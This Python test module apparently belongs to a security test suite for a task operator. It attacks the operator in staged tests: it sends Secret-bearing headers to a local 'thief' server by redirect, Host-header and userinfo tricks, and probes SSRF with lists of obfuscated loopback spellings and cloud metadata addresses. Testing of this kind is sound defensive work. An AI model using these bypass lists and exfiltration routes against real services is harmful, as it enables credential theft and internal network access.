"""Owns attacks by what a task talks to, and by authors who choose whom it talks to. S5, S6, S9, S16, S17, S19, S23."""

import base64
import html
import json
from collections.abc import Callable, Iterator
from urllib.parse import quote

from tests.attack.ground import ENDED, Ground, Tenant, step, until
from tests.attack.listeners import Site, ear, site
from tests.attack.session import Body
from tests.attack.verdict import Attack, Held, Through, Verdict
from tests.support.hostile import targets

from obtask.executors.network.lookup import HostPolicy

LOOT = "Adm1n-Pa55!-of-root"
HTTP_SECRET = "task.oceanbase.com/http"  # noqa: S105 - a type


def header(name: str, secret: str, key: str = "password") -> list[dict[str, object]]:
    """Return headersFrom with one header."""
    return [{"name": name, "secretKeyRef": {"name": secret, "key": key}}]


def stolen_headers(ground: Ground) -> Verdict:
    """Send values of Secrets to hosts that their owner did not name: by url, until.url, a redirect, a Host header."""
    with ground.tenant() as tenant, site() as thief, site() as owner:
        owner.location = thief.url
        tenant.secret("db", host="127.0.0.1", user="root@sys", password=LOOT)
        tenant.secret("opaque", "Opaque", password=LOOT)
        tenant.secret("listless", HTTP_SECRET, password=LOOT)
        tenant.secret("elsewhere", HTTP_SECRET, password=LOOT, hosts="api.example.com,*.example.com,10.0.0.0/8")
        tenant.secret("owned", HTTP_SECRET, password=LOOT, hosts=f"127.0.0.1:{owner.port}")
        names = list(_send(tenant, thief, owner))
        until(lambda: all(tenant.phase(name) in ENDED for name in names), 15)
        reached = any(LOOT in request for request in owner.heard)
        if any(LOOT in request for request in thief.heard):
            return Through("the thief's server has heard the password")
        return Held(f"{len(names)} ways tried; the owner's own host {'has it' if reached else 'has NOT got it either'}")


def _send(tenant: Tenant, thief: Site, owner: Site) -> Iterator[str]:
    for secret in ("db", "opaque", "listless", "elsewhere"):
        yield _asked(tenant, f"url-{secret}", {"url": thief.url, "headersFrom": header("X-Loot", secret)})
    loot = header("X-Loot", "owned")
    never = {"url": thief.url, "expect": "status == 404", "intervalSeconds": 1}
    yield _asked(tenant, "until", {"url": owner.url, "headersFrom": loot, "until": never})
    yield _asked(tenant, "redirect", {"url": owner.url, "headersFrom": loot})
    host = {"Host": f"127.0.0.1:{owner.port}"}
    yield _asked(tenant, "host", {"url": thief.url, "headersFrom": loot, "headers": host})
    yield _asked(tenant, "user", {"url": thief.url.replace("http://", f"http://127.0.0.1:{owner.port}@"), "headersFrom": loot})
    yield _asked(tenant, "other-host", {"url": thief.url, "headersFrom": header("X", "elsewhere"), "headers": {"Host": "api.example.com"}})
    yield _asked(tenant, "cookie", {"url": thief.url, "headersFrom": header("Cookie", "owned")})


def _asked(tenant: Tenant, name: str, http: dict[str, object]) -> str:
    """Create a task of somebody who may read no Secret; return its name."""
    tenant.create("carol", name, step("a", http=http, timeoutSeconds=4))
    return name


def hostile(prefix: str, seconds: float) -> Callable[[Ground], Verdict]:
    """Return an attack by all hostile targets of one kind, side by side."""

    def attack(ground: Ground) -> Verdict:
        with ground.tenant() as tenant, targets.running() as ports:
            chosen = {name: port for name, port in ports.items() if name.startswith(prefix)}
            for name, port in chosen.items():
                secret, manifest = targets.secret(name, port), targets.task(name, port, seconds=int(seconds))
                if secret:
                    ground.admin.send("POST", tenant.path("secrets"), secret)
                tenant.as_("carol").send("POST", tenant.task_path(), manifest)
            until(lambda: ground.hopeless or _all_ended(tenant), seconds + 5)
            harm = ground.harm(latency=False)
            memory = ground.window.memory if ground.window else 0
            return Through(harm) if harm else Held(f"{len(chosen)} targets side by side; at most {memory:.0f} MiB")

    return attack


def _all_ended(tenant: Tenant) -> bool:
    listed = tenant.ground.admin.send("GET", tenant.task_path(), accept="application/json;as=Table;v=v1;g=meta.k8s.io")
    table = listed.body()
    column = [found["name"] for found in table["columnDefinitions"]].index("Phase")
    return all(row["cells"][column] in ENDED for row in table["rows"])


# Spellings of this machine's own address that resolvers and URL parsers know.
LOOPBACKS = (
    "127.0.0.1", "127.1", "127.0.1", "0x7f000001", "0x7f.1", "017700000001", "2130706433", "127.0.0.1.", "0", "[::ffff:127.0.0.1]",
    "0.0.0.0", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "user@127.0.0.1", "①②⑦.0.0.1",  # noqa: S104
    "127。0。0。1", "[::]", "[::1]",
)  # fmt: skip
METADATA = (
    "169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254", "192.0.0.192", "168.63.129.16", "169.254.0.23", "fd20:ce::254",
    "::ffff:100.100.100.200", "64:ff9b::6464:64c8", "2002:6464:64c8::", "::ffff:0:a9fe:a9fe", "0x646464c8", "1684301000", "100.100.25800",
    "fe80::1", "fe80::a9fe:a9fe%eth0", "224.0.0.1", "ff02::1", "255.255.255.255", "0.0.0.0", "::", "127.0.0.1", "::1", "127.255.255.254",  # noqa: S104
)  # fmt: skip


def metadata(ground: Ground) -> Verdict:  # noqa: ARG001 - no packet is sent
    """Ask the shipped rule, with nothing listed, for every metadata service and address that means this machine."""
    allowed = [host for host in METADATA if HostPolicy().refusal(host) is None]
    return Through(f"allowed: {', '.join(allowed[:6])}") if allowed else Held(f"{len(METADATA)} addresses refused")


def own_loopback(ground: Ground) -> Verdict:
    """Reach a server on the operator's own loopback when nothing is listed, in every spelling, by http, sql and obshell."""
    with ground.tenant() as tenant, site() as page, ear(lambda line, _: line.close()) as listener:
        with ground.interruption():
            ready = ground.operator.restart(OBTASK_ALLOWED_HOSTS="")
        assert ready
        urls = [f"http://{host}:{page.port}/" for host in LOOPBACKS]
        made = [
            f"ssrf-{i}"
            for i, url in enumerate(urls)
            if tenant.create("carol", f"ssrf-{i}", step("a", http={"url": url}, timeoutSeconds=8)).ok
        ]
        for number, host in enumerate(("127.0.0.1", "0.0.0.0", "::1", "127.1")):  # noqa: S104 - what an attacker would write
            tenant.secret(f"db{number}", host=host, port=str(listener.port), user="u", password="p")  # noqa: S106 - of nobody
            tenant.make("carol", f"db{number}", step("a", sql={"connection": {"secretName": f"db{number}"}, "statements": ["select 1"]}))
        until(lambda: all(tenant.phase(name) in ENDED for name in [*made, "db3"]), 15)
        with ground.interruption():
            ground.operator.restart()
        through = page.count or listener.connections
        told = f"{page.count} requests and {listener.connections} connections arrived"
        return Through(told) if through else Held(f"{len(made)} spellings of {len(LOOPBACKS)} taken, 4 Secrets: {told}")


OTHER_HOSTS = (
    "internal-admin.corp", "[::1", "127.0.0.1:99999", "x@internal-admin.corp", "internal-admin.corp:80", "127.0.0.1 internal-admin.corp",
)  # fmt: skip


def host_headers(ground: Ground) -> Verdict:
    """Name another host in the Host header than the list allows, from every source, also unreadable ones."""
    with ground.tenant() as tenant, site() as page:
        tenant.secret("host", HTTP_SECRET, password="internal-admin.corp", hosts="127.0.0.1")  # noqa: S106 - a name
        tenant.secret("host-db", password="internal-admin.corp")  # noqa: S106 - a name
        names, secrets = ("Host", "host", "HOST"), ("host", "host-db")
        requests: list[Body] = [{"url": page.url, "headers": {name: host}} for name in names for host in OTHER_HOSTS]
        requests += [{"url": page.url, "headersFrom": header(name, secret)} for name in names for secret in secrets]
        since = ground.operator.position()
        made = [
            f"host-{i}"
            for i, http in enumerate(requests)
            if tenant.create("carol", f"host-{i}", step("a", http=http, timeoutSeconds=10)).ok
        ]
        until(lambda: all(tenant.phase(name) in ENDED for name in made), 15)
        if any("internal-admin" in request for request in page.heard):
            return Through("a request with the Host header internal-admin.corp arrived")
        broken = any("unexpected" in tenant.log(name) for name in made) or "Traceback" in ground.operator.logged(since)
        return (
            Through("an unreadable header ends in an unexpected error")
            if broken
            else Held(f"{len(requests)} headers refused, {len(made)} of them by the operator")
        )


VALUE = "Zw-s3crét-<4711>&x"


def echoed_secrets(ground: Ground) -> Verdict:
    """Let a server give a secret back in other forms; what the task shows must not have it."""
    forms = _forms(VALUE)
    with ground.tenant() as tenant, site(json.dumps({"said": list(forms.values())})) as page:
        tenant.secret("key", HTTP_SECRET, password=VALUE, hosts=f"127.0.0.1:{page.port}")
        tenant.make("carol", "echo", step("a", http={"url": page.url, "headersFrom": header("X-Key", "key"), "expect": "status == 201"}))
        tenant.ended("echo")
        shown = tenant.log("echo")
        seen = [name for name, form in forms.items() if form in shown or json.dumps(form)[1:-1] in shown]
        if "X-Key" not in "".join(page.heard):
            return Through("the secret was not sent at all, which proves nothing")
        return Through(f"shown as {', '.join(seen)}") if seen else Held(f"{len(forms)} forms masked")


def _forms(value: str) -> dict[str, str]:
    octets = value.encode()
    return {
        "plain": value,
        "JSON": json.dumps(json.dumps(value)),
        "HTML": html.escape(value),
        "hex": octets.hex(),
        "upper hex": octets.hex().upper(),
        "base64": base64.b64encode(octets).decode(),
        "URL": quote(value, safe=""),
        "UTF-8 as Latin-1": octets.decode("latin-1"),
    }


SHIPPED = "117 -> 747 MB within 22 s"
ATTACKS = (
    Attack("S5", "secret headers to other hosts", "root@sys and its password arrived", stolen_headers),
    Attack("S9", "hostile SQL servers", SHIPPED, hostile("sql-", 10), judged=True),
    Attack("S9", "hostile web servers", "bounded, +55 MiB", hostile("http-", 8), judged=True),
    Attack("S19", "hostile obshell agents", "+139 MiB in 11 looks, blocks of 2 s", hostile("obshell-", 10), judged=True),
    Attack("S9", "every hostile target for a minute", SHIPPED, hostile("", 60), judged=True, full=True),
    Attack("S16", "metadata services", "Alibaba, AWS, Oracle, Azure, loopback reached", metadata),
    Attack("S16", "the operator's own loopback", "reached: full-read SSRF", own_loopback),
    Attack("S17", "Host headers", "internal-admin.corp; uncaught ValueError", host_headers),
    Attack("S23", "secrets in other forms", "HTML, hex and double JSON shown", echoed_secrets),
)
